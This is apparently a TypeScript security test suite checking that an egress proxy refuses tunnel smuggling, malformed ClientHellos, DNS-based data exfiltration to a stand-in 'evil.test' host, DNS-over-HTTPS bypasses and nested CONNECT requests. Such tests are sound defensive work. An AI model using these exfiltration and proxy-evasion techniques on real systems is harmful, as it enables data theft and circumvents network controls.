// Attacks 14 and 16 to 19: what may be inside a tunnel, what a ClientHello may look like, and ways round the proxy.
import { createSocket } from "node:dgram";
import { once } from "node:events";
import * as packet from "dns-packet";
import { eventually, within } from "../../e2e/harness/wait.ts";
import { essentials, helloBytes, serverName } from "../../helpers/client-hello.ts";
import { type Arena, authorization, nothingArrives, refusal } from "../arena.ts";
import { type Attack, type Attempt, by, each, hold } from "../attack.ts";
import { ask, byteWays, h2Ways, open, replyOf, sessionOn, type Way } from "../workload.ts";

const tunnels = ["CONNECT without TLS", "SOCKS5 without TLS"] as const satisfies readonly Way[];

/** Bytes in a tunnel that are neither TLS nor HTTP. */
const others: readonly (readonly [what: string, bytes: string | Buffer])[] = [
  ["SSH", "SSH-2.0-OpenSSH_9.6\r\n"],
  ["a length-prefixed protocol", "\x00\x00\x01\x2c"],
  ["SOCKS4", "\x04\x01\x00\x50"],
  ["SMTP", "ehlo mail.test\r\n"],
  ["Redis", "*1\r\n$4\r\nPING\r\n"],
  ["PostgreSQL", Buffer.of(0, 0, 0, 8, 4, 210, 22, 47)],
  ["a TLS alert", "\x15\x03\x01\x00\x02"],
];

async function inTunnel(arena: Arena, way: Way, authority: string, bytes: string | Buffer): Promise<string> {
  const opened = await open(arena, way, { authority });
  if ("reply" in opened) return refusal(opened.reply);
  const { client } = opened;
  client.send(bytes);
  const all = await within("the tunnel's end", client.reader.rest());
  const said = all.toString("latin1");
  hold(said === "" || said.startsWith("HTTP/1.1 4"), `answered with ${JSON.stringify(said.slice(0, 40))}`);
  return said === "" ? "closed" : (said.split("\r\n", 1)[0] as string);
}

async function question(arena: Arena, name: string, type: string): Promise<packet.DecodedPacket> {
  const { port } = await dnsPort(arena);
  const socket = createSocket("udp4");
  try {
    const answered = once(socket, "message");
    const query = packet.encode({ type: "query", id: 1, questions: [{ type: type as "A", name }] });
    socket.send(query, port, "127.0.0.1");
    const [message] = (await within("a DNS answer", answered)) as [Buffer];
    arena.hunt.take(message);
    return packet.decode(message);
  } finally {
    socket.close();
  }
}

async function dnsPort(arena: Arena): Promise<{ readonly port: number }> {
  const line = await arena.proxy.line("dns server starting");
  return { port: Number(String(line["addr"]).split(":").at(-1)) };
}

const hello = { extensions: [serverName("denied.test"), ...essentials] };

/** ClientHellos that a careless reader finds no name in, or another one. */
const hellos: readonly (readonly [what: string, bytes: () => Uint8Array])[] = [
  ["no name", () => helloBytes({ extensions: essentials })],
  [
    "a name twice",
    () =>
      helloBytes({ extensions: [serverName("api.e2e.test"), serverName("other.e2e.test"), ...essentials] }),
  ],
  [
    "a name with NUL",
    () => helloBytes({ extensions: [serverName("api.e2e.test\0.evil.test"), ...essentials] }),
  ],
  ["no ClientHello", () => Buffer.from("\x16\x03\x01\x00\x05\x02\x00\x00\x01\x00", "latin1")],
];

export const inTunnels: readonly Attack[] = [
  {
    number: 14,
    title: "Something else than TLS or HTTP inside a tunnel, or another port",
    defence: "the first bytes decide; a rule without a port means 443 and 80",
    attempts: [
      ...each(
        others,
        tunnels,
        ([what]) => `${what} inside a tunnel`,
        "refused",
        (arena, way, [, bytes]) =>
          nothingArrives(arena, () => inTunnel(arena, way, arena.world.secureAuthority, bytes)),
      ),
      ...by(["CONNECT", "SOCKS5", "absolute form"], "the port of SSH", "refused", async (arena, way) =>
        refusal(await arena.ask(way, { authority: "scheme.deep.e2e.test:22" }), "host_not_allowed"),
      ),
    ],
  },
  {
    number: 16,
    title: "A ClientHello without a name, in pieces, larger than a packet, or encrypted",
    defence: "read whole, up to a limit; without a name the tunnel's counts, or it is refused",
    attempts: [
      ...each(
        hellos,
        ["redirected TLS"],
        ([what]) => what,
        "refused",
        async (arena, _way, [, bytes]) => {
          const client = await arena.world.raw("https");
          client.send(bytes());
          const answer = await within("an alert", client.reader.rest());
          hold(answer[0] === 21, "there was no alert");
          return `TLS alert ${answer[6]}`;
        },
      ),
      ...each(
        [1, 7],
        ["redirected TLS"],
        (size) => `a denied name, ${size} bytes at a time`,
        "refused",
        async (arena, _way, size) => {
          const client = await arena.world.raw("https");
          const bytes = Buffer.from(helloBytes(hello));
          for (let at = 0; at < bytes.length; at += size) client.send(bytes.subarray(at, at + size));
          const first = await within("an answer", client.reader.take(1));
          hold(first[0] === 21 || first[0] === 22, "neither a handshake nor an alert");
          client.close();
          const record = await eventually("its record", () =>
            arena.proxy.audit.read().find(({ audit }) => audit.remote_addr === client.remote),
          );
          hold(
            record.audit.sni === "denied.test" && record.audit.action !== "allow",
            "its name was not seen",
          );
          return "its name is read, and refused";
        },
      ),
      ...by(
        ["CONNECT", "SOCKS5", "CONNECT, HTTP/2"],
        "no name, in a tunnel to a denied host",
        "refused",
        async (arena, way) =>
          refusal(
            await arena.ask(way, { authority: "denied.test:443", tls: { servername: "" } }),
            "host_not_allowed",
          ),
      ),
      ...by(
        ["CONNECT", "SOCKS5"],
        "a name that is not opened, in a tunnel to one that is",
        "refused",
        async (arena, way) =>
          refusal(await arena.ask(way, { tls: { servername: "pinned.e2e.test" } }), "authority_mismatch"),
      ),
    ],
  },
  {
    number: 17,
    title: "QUIC, DNS over HTTPS, DNS as a channel",
    defence:
      "the [DNS server](dns.md) forwards only names that are let through, offers no other resolver and strips HTTPS records; UDP and other resolvers have to be closed on the network, as [routing.md](routing.md) says",
    attempts: [
      ...each(
        ["c3RvbGVuLWRhdGE.evil.test", "stolen.data.api.e2e.test.evil.test"],
        ["DNS"],
        (name) => `data in the name ${name}`,
        "refused",
        async (arena, _way, name) => {
          const queries = arena.world.dns.queries.length;
          const answer = await question(arena, name, "A");
          hold(arena.world.dns.queries.length === queries, "the name went out");
          hold((answer as { rcode?: string }).rcode === "NXDOMAIN", "the name exists");
          return "no such name, and nothing went out";
        },
      ),
      ...each(
        ["HTTPS", "SVCB", "TXT"],
        ["DNS"],
        (type) => `a ${type} record, with keys for an encrypted name or with data`,
        "neutralised",
        async (arena, _way, type) => {
          const answer = await question(
            arena,
            "api.e2e.test",
            type === "TXT" ? type : `UNKNOWN_${type === "HTTPS" ? 65 : 64}`,
          );
          hold((answer.answers ?? []).length === 0, "there was one");
          return "an answer without records";
        },
      ),
      ...by(["DNS"], "the resolver's name for Firefox and iCloud", "neutralised", async (arena) => {
        const answer = await question(arena, "use-application-dns.net", "A");
        hold((answer.answers ?? []).length === 0, "it has an address");
        return "no address: they do not go round it";
      }),
      ...by(["SOCKS5"], "UDP ASSOCIATE", "refused", async (arena) => {
        const client = await arena.world.raw();
        client.send(Buffer.of(5, 1, 0, 5, 3, 0, 1, 0, 0, 0, 0, 0, 0));
        const all = await within("a reply", client.reader.rest());
        hold(all[3] === 7, `reply ${all[3]}`);
        return "SOCKS reply 7";
      }),
      ...by(["CONNECT", "SOCKS5"], "DNS over HTTPS to a resolver", "refused", async (arena, way) =>
        refusal(
          await arena.ask(way, { authority: "dns.google:443", path: "/dns-query" }),
          "host_not_allowed",
        ),
      ),
    ],
  },
  {
    number: 18,
    title: "Unset the variables, open a socket directly",
    defence:
      "a wall outside of the workload, as [transparent.md](transparent.md) builds it; not ours otherwise",
    attempts: [],
    notApplicable:
      "a proxy cannot keep anyone from going round it; the wall is tried in network namespaces, by the tests named here",
  },
  {
    number: 19,
    title: "A CONNECT inside a tunnel inherits its trust",
    defence: "CONNECT and TRACE inside a tunnel are refused; every request is decided by itself",
    attempts: [
      ...by(
        byteWays.filter((way) => way !== "absolute form"),
        "CONNECT inside",
        "refused",
        (arena, way) =>
          nothingArrives(arena, async () => {
            const { authority } = arena.target(way);
            const opened = await open(arena, way, { authority });
            if ("reply" in opened) return refusal(opened.reply);
            const to = arena.world.secureAuthority;
            opened.client.send(`CONNECT ${to} HTTP/1.1\r\nHost: ${to}\r\n\r\n`);
            return refusal(
              replyOf(arena, await opened.client.answer()),
              "method_not_allowed",
              "authority_mismatch",
            );
          }),
      ),
      ...by(h2Ways, "CONNECT on a stream", "refused", async (arena, way) => {
        const { authority } = arena.target(way);
        const opened = await open(arena, way, { authority });
        if ("reply" in opened) return refusal(opened.reply);
        const session = sessionOn(opened.client);
        const stream = session.request({ ":method": "CONNECT", ":authority": authority });
        stream.on("error", () => {});
        const [head] = (await within("an answer", once(stream, "response"))) as [Record<string, string>];
        session.destroy();
        hold(Number(head[":status"]) === 405, `answered with ${head[":status"]}`);
        return `405 ${head["sallyport-reason"]}`;
      }),
      ...by(["absolute form"], "CONNECT on a port that opens no tunnels", "refused", async (arena) => {
        const client = await arena.world.raw("http");
        const to = arena.world.secureAuthority;
        client.send(`CONNECT ${to} HTTP/1.1\r\nHost: ${to}\r\n\r\n`);
        return refusal(replyOf(arena, await client.answer()), "method_not_allowed");
      }),
      ...by(
        ["CONNECT", "SOCKS5", "CONNECT, HTTP/2", "redirected TLS"],
        "another path and method in an open tunnel",
        "refused",
        (arena, way) =>
          nothingArrives(arena, async () => {
            const authority = `deep.api.e2e.test:${arena.world.secure.port}`;
            const path = await arena.ask(way, { authority, path: "/no" });
            const method = await arena.ask(way, { authority, path: "/ok/1", method: "DELETE" });
            return [path, method].map((reply) => refusal(reply, "request_not_allowed")).join("; ");
          }),
      ),
      ...relayed(),
    ],
  },
];

/** What another workload's tunnel is trusted with, when a relay in the sandbox uses it. */
function relayed(): Attempt[] {
  return by(
    ["redirected TLS", "redirected TLS, HTTP/2"],
    "a request without a token beside those with one",
    "refused",
    async (arena, way) => {
      const asked = { authority: arena.world.secureAuthority, fields: [authorization] };
      return refusal(await ask(arena.guardedSide, way, asked), "caller_required");
    },
  );
}
